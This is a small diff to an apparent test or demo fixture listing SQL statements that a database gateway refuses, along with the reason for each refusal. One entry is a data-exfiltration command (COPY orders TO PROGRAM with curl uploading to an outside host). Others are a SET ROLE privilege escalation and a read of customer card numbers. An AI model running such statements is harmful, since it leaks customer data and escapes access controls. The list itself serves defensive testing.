@@ -13,8 +13,8 @@ from callpoint.cli.demo.stage import INSTALLATION_FILE, Stage
 _BECAUSE = "orders are stuck since the deploy; resetting their state cannot wait for morning"
 
 _OUT_OF_SCOPE = (
-    ("SET ROLE orders_broker", "SET ROLE"),
-    ("COPY orders TO PROGRAM 'curl -T - https://elsewhere.example'", "PROGRAM"),
+    ("SET ROLE orders_broker", "SET role is never allowed through a gateway"),
+    ("COPY orders TO PROGRAM 'curl -T - https://elsewhere.example'", "PROGRAM is never allowed"),
     ("SELECT card FROM customers", "permission denied for table customers"),
 )
 """Statements, and words of why not."""
